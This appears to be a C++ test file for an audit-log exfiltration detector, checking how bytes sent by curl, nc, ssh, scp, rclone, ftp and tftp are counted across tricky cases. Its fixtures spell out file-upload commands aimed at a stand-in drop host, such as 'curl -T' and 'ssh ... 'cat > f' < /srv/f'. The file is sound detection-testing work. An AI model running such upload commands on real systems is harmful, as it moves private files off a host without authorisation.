#include "host_with_cron.hpp"

/// Traps 51 to 70 of transfer-tools §5: what is counted, and what it proves.
namespace auexfil::test {

TEST_CASE("trap 51: two files over one connection") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/f", "-T", "g",
                                              "http://203.0.113.9/g"});
  log.tcp(curl, 3, kDrop, 80);
  for (int file = 0; file < 2; ++file) {
    log.send(curl, 3, 150);
    log.send(curl, 3, 65536);
  }
  log.done(curl);
  const auto fact = one(log);
  CHECK(fact.destinations.at(0).connections == 1);
  CHECK(sum(fact) == "out 131372 measured");
}

TEST_CASE("trap 51: one transfer over several connections") {
  CronHost log;
  const int rclone = log.tool("/usr/bin/rclone", {"rclone", "copy", "/srv", "r:d"});
  for (int fd = 3; fd < 7; ++fd) {
    log.socket(rclone, fd, 0x801);
    log.connect(rclone, fd, kDrop, 22, -115);
  }
  for (int fd = 3; fd < 7; ++fd) {
    log.write(rclone, fd, 36);
    log.write(rclone, fd, 28708);
    log.close(rclone, fd);
  }
  log.exit(rclone);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(fact.destinations[0].connections == 4);
  CHECK(sum(fact) == "out 114976 measured");
}

TEST_CASE("trap 52: data connections one after the other on the same numbers") {
  CronHost log;
  const int lftp = log.tool("/usr/bin/lftp", {"lftp", "-c", "open 203.0.113.9; mirror -R d"});
  log.socket(lftp, 4);
  log.connect(lftp, 4, kDrop, 21, -115);
  log.write(lftp, 4, 16);
  for (int file = 0; file < 5; ++file) {
    log.write(lftp, 4, 20);
    log.socket(lftp, 5);
    log.connect(lftp, 5, kDrop, 40000 + file, -115);
    log.write(lftp, 5, 65536);
    log.close(lftp, 5);
  }
  log.done(lftp, 4);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(fact.destinations[0].port == 21);
  CHECK(fact.destinations[0].connections == 6);
  CHECK(sum(fact) == "out 327796 measured");
}

TEST_CASE("trap 53: an IPv4 address inside an IPv6 one is the same destination") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, "::ffff:203.0.113.9", 9000);
  log.write(tool, 3, 64);
  log.close(tool, 3);
  log.tcp(tool, 3, kDrop, 9000);
  log.write(tool, 3, 64);
  log.done(tool);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(fact.destinations[0].address->to_string() == "203.0.113.9");
  CHECK(fact.bytes_out == 128U);
}

TEST_CASE("trap 54: addresses longer than they need, and those of getsockname, are no peers") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.socket(tool, 3);
  log.call(tool, "connect", 0, {3, 0x7f, 128},
           {"SOCKADDR saddr=" + saddr(kDrop, 9000) + std::string(224, 'F')});
  log.call(tool, "sendto", 64, {3, 0x7f, 64});
  const std::string local = "SOCKADDR saddr=" + saddr("192.0.2.1", 40000);
  for (const int number : {51, 52}) {  // getsockname, getpeername
    const std::string stamp = log.next_stamp();
    log.record("SYSCALL", stamp,
               fmt::format("arch=c000003e syscall={} success=yes exit=0 a0=3 a1=7f a2=7f a3=0 "
                           "items=0 ppid={} pid={} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 "
                           "sgid=0 fsgid=0 tty=(none) ses=11 comm=\"sender\" "
                           "exe=\"/opt/up/sender\" key=\"t\"",
                           number, log.who(tool).ppid, tool));
    log.record("SOCKADDR", stamp, local.substr(9));
  }
  log.call(tool, "recvfrom", 3, {3, 0x7f, 64}, {local});
  log.send(tool, 3, 1000);
  log.done(tool);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(destination(fact, kDrop) != nullptr);
  CHECK(fact.bytes_out == 1064U);
}

TEST_CASE("trap 55: what was sent counts, not what was asked for") {
  CronHost log;
  const int nc = log.tool("/usr/bin/nc.openbsd", {"nc", "-N", "203.0.113.9", "9000"});
  log.tcp(nc, 3, kDrop, 9000);
  log.write(nc, 3, 64);
  log.call(nc, "write", 4000, {3, 0x7f, 16384});
  log.call(nc, "write", -11, {3, 0x7f, 16384});
  log.call(nc, "write", -32, {3, 0x7f, 16384});
  log.call(nc, "write", 0, {3, 0x7f, 16384});
  log.done(nc);
  CHECK(sum(one(log)) == "out 4064 measured");
}

TEST_CASE("trap 56: an ssh that moves nothing writes 3.5 KB all the same") {
  CronHost log;
  const int ssh = log.tool("/usr/bin/ssh", {"ssh", "203.0.113.9", "true"});
  log.tcp(ssh, 3, kDrop, 22);
  for (const int bytes : {41, 1560, 1208, 16, 44, 60, 500, 100}) {
    log.write(ssh, 3, bytes);
    log.read(ssh, 3, bytes);
  }
  log.done(ssh);
  const auto fact = one(log);
  CHECK(sum(fact) == "none 3529 measured");
}

TEST_CASE("trap 57: a killed transfer counts as far as it came") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/f"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.send(curl, 3, 65536);
  // SIGKILL: no close, no exit. The host lives on.
  log.pass(600'000);
  log.job("true");
  CHECK(sum(one(log)) == "out 65686 measured");
}

TEST_CASE("trap 58: PuTTY's ps and ls gather entropy") {
  CronHost log;
  const int pscp = log.tool("/usr/bin/pscp", {"pscp", "-batch", "f", "u@203.0.113.9:p"});
  int child = 1900;
  for (const char* command : {"ps -axu 2>/dev/null", "ls -al /tmp 2>/dev/null"}) {
    log.run(pscp, child, "/usr/bin/dash", {"sh", "-c", command});
    log.exec(child, "/usr/bin/ps", {"ps", "-axu"});
    log.write(child, 1, 20'000);
    log.exit(child++);
  }
  log.socket(pscp, 3);
  log.bind(pscp, 3, "0.0.0.0", 0);
  log.connect(pscp, 3, kDrop, 22, -115);
  log.send(pscp, 3, 28);
  for (int i = 0; i < 20; ++i) {
    log.send(pscp, 3, 4176);
  }
  log.done(pscp);
  const auto fact = one(log);
  CHECK(fact.tool == "pscp");
  CHECK(sum(fact) == "out 83548 measured");
}

TEST_CASE("trap 59: the connection is a proxy's, the command line names another") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-x", "http://198.51.100.7:3128", "-T", "f",
                                              "http://203.0.113.9/f"});
  log.tcp(curl, 3, kOther, 3128);
  log.send(curl, 3, 150);
  log.send(curl, 3, 65536);
  log.done(curl);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(destination(fact, kOther) != nullptr);
  CHECK(has_note(fact, "203.0.113.9"));
}

TEST_CASE("trap 60: the host in the command line may be an alias") {
  CronHost log;
  const int scp = log.tool("/usr/bin/scp", {"scp", "f", "drop:p"});
  const int ssh = log.ssh_child(scp, CronHost::sftp_argv("drop"), kDrop);
  log.upload(ssh, 3, 100'000);
  log.done(ssh);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(fact.destinations[0].address->to_string() == kDrop);
  CHECK(fact.destinations[0].name == "drop");
}

TEST_CASE("trap 61: busybox is what its first or second word says") {
  const auto argv =
      GENERATE(values<std::vector<std::string>>({{"busybox", "nc", "203.0.113.9", "9000"},
                                                 {"nc", "203.0.113.9", "9000"},
                                                 {"/bin/busybox", "nc", "203.0.113.9", "9000"},
                                                 {"/usr/bin/nc", "203.0.113.9", "9000"}}));
  CAPTURE(argv[0]);
  CronHost log;
  const int nc = log.tool("/usr/bin/busybox", argv);
  log.tcp(nc, 3, kDrop, 9000);
  log.write(nc, 3, 1024);
  log.write(nc, 3, 64);
  log.done(nc);
  const auto fact = one(log);
  CHECK(fact.tool == "nc");
  CHECK(sum(fact) == "out 1088 measured");
}

TEST_CASE("trap 62: ftp may be either program") {
  const std::string exe = GENERATE("/usr/bin/tnftp", "/usr/bin/inetutils-ftp", "/usr/bin/ftp");
  CronHost log;
  const int ftp = log.tool(exe, {"ftp", "-n", "203.0.113.9"});
  log.tcp(ftp, 3, kDrop, 21);
  log.write(ftp, 3, 12);
  log.tcp(ftp, 4, kDrop, 40000);
  log.write(ftp, 4, 16384);
  log.close(ftp, 4);
  log.done(ftp);
  const auto fact = one(log);
  CHECK(fact.tool == "ftp");
  CHECK(sum(fact) == "out 16396 measured");
}

TEST_CASE("trap 63: what io_uring sends is not in the log") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 5, kDrop, 9000);
  log.write(tool, 5, 64);
  const std::string stamp = log.next_stamp();
  log.record("SYSCALL", stamp,
             fmt::format("arch=c000003e syscall=426 success=yes exit=8 a0=6 a1=8 a2=0 a3=0 "
                         "items=0 ppid={} pid={} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 "
                         "sgid=0 fsgid=0 tty=(none) ses=11 comm=\"sender\" "
                         "exe=\"/opt/up/sender\" key=\"t\"",
                         log.who(tool).ppid, tool));
  log.done(tool, 5);
  const auto fact = one(log);
  CHECK(fact.bytes_out == 64U);
  CHECK(fact.basis == transfer::Basis::at_least);
}

TEST_CASE("trap 63: a connection that io_uring makes is seen, its bytes are not") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  const std::string stamp = log.next_stamp();
  log.record("URINGOP", stamp,
             fmt::format("uring_op=16 success=yes exit=0 items=0 ppid={} pid={} uid=0 gid=0 euid=0 "
                         "suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 key=\"t\"",
                         log.who(tool).ppid, tool));
  log.record("SOCKADDR", stamp, "saddr=" + saddr(kDrop, 9000));
  log.exit(tool);
  const auto fact = one(log);
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(sum(fact) == "unknown ? unknown");
}

TEST_CASE("trap 64: ssh -n has nothing to send") {
  CronHost log;
  const int ssh = log.tool("/usr/bin/ssh", {"ssh", "-n", "203.0.113.9", "cat > f"});
  log.tcp(ssh, 3, kDrop, 22);
  for (const int bytes : {41, 1560, 1208, 16, 44, 60, 644, 100}) {
    log.write(ssh, 3, bytes);
    log.read(ssh, 3, bytes);
  }
  log.done(ssh);
  CHECK(sum(one(log)) == "none 3673 measured");
}

TEST_CASE("trap 65: many calls with little in them are chatter") {
  CronHost log;
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-a", "203.0.113.9::m/d", "/srv"});
  log.tcp(rsync, 3, kDrop, 873, -115);
  for (int i = 0; i < 300; ++i) {
    log.write(rsync, 3, 20);
    log.read(rsync, 3, 8192);
  }
  log.done(rsync);
  CHECK(sum(one(log)) == "in 6000 measured");
}

TEST_CASE("trap 66: a queued job is sent later, under another parent") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int put = log.run(shell, 510, "/usr/bin/ncftpput",
                          {"ncftpput", "-b", "-u", "u", "203.0.113.9", "d", "f"});
  log.close(put, 3);  // as each program's loader does
  log.exit(put);
  const int batch = log.tool("/usr/bin/ncftpbatch", {"ncftpbatch", "-d"}, 1000);
  log.tcp(batch, 3, kDrop, 21);
  log.write(batch, 3, 20);
  log.tcp(batch, 4, kDrop, 40000);
  log.call(batch, "sendfile", 2'000'000, {4, 5, 0, 2'000'000});
  log.close(batch, 4);
  log.done(batch);
  const auto fact = one(log);
  CHECK(fact.process.pid == static_cast<std::uint32_t>(batch));
  CHECK(sign_of(fact) == "unattended cron");
  CHECK(sum(fact) == "out 2000020 measured");
}

TEST_CASE("trap 67: the file is opened by one process and sent by another") {
  CronHost log;
  const int shell = log.job("ssh 203.0.113.9 'cat > f' < /srv/f");
  log.fork(shell, shell + 1);
  log.open(shell + 1, 3, "/srv/f");
  log.dup2(shell + 1, 3, 0);
  log.close(shell + 1, 3);
  log.exec(shell + 1, "/usr/bin/ssh", {"ssh", "203.0.113.9", "cat > f"});
  log.tcp(shell + 1, 3, kDrop, 22);
  log.upload(shell + 1, 3, 300'000);
  log.done(shell + 1);
  CHECK(sum(one(log)) == "out 300000 measured");
}

TEST_CASE("trap 68: a passive reply may name another address: the data connection's counts") {
  CronHost log;
  const int ftp = log.tool("/usr/bin/tnftp", {"ftp", "-n", "198.51.100.7"});
  log.tcp(ftp, 3, kOther, 21);
  log.write(ftp, 3, 12);
  log.tcp(ftp, 4, kDrop, 40000);
  log.write(ftp, 4, 163'840);
  log.close(ftp, 4);
  log.done(ftp);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 2);
  CHECK(destination(fact, kDrop)->bytes_out == 163'840U);
  CHECK(destination(fact, kOther)->bytes_out == 12U);
}

TEST_CASE("trap 69: several processes of one name, one of them moves the payload") {
  CronHost log;
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-a", "d/", "203.0.113.9::m"});
  log.tcp(rsync, 3, kDrop, 873, -115);
  log.fork(rsync, 1900);
  log.write(1900, 2, 5000);
  log.write(rsync, 3, 40);
  for (int i = 0; i < 5; ++i) {
    log.write(rsync, 3, 32776);
  }
  log.exit(1900);
  log.done(rsync);
  CHECK(sum(one(log)) == "out 163920 measured");
}

TEST_CASE("trap 70: records lost meanwhile make a sum a lower bound") {
  CronHost log;
  const int tftp = log.tool("/usr/bin/tftp", {"tftp", "203.0.113.9", "-c", "put", "l", "r"});
  log.udp(tftp, 3);
  log.sendto(tftp, 3, 14, kDrop, 69);
  log.sendto(tftp, 3, 516, kDrop, 42715);
  log.lose(900);
  log.sendto(tftp, 3, 516, kDrop, 42715);
  log.done(tftp);
  CHECK(sum(one(log)) == "out 1046 at-least");
}

}  // namespace auexfil::test
